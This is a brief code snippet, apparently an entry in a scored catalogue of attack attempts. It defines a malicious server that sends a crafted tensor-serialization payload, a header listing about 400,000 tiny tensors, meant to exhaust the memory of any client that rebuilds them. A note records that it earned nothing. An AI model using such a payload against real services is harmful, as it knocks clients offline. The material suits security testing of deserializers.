# tries: exhaust the memory of whoever rebuilds a million tiny tensors
# earns: 0
text = b'[{"value":1},[["int8",[1],[1]]' + b',["int8",[1],[1]]' * 400_000 + b"]]"
serve(lambda request: struct.pack("!IQ", len(text), 400_001) + text + bytes(400_001))
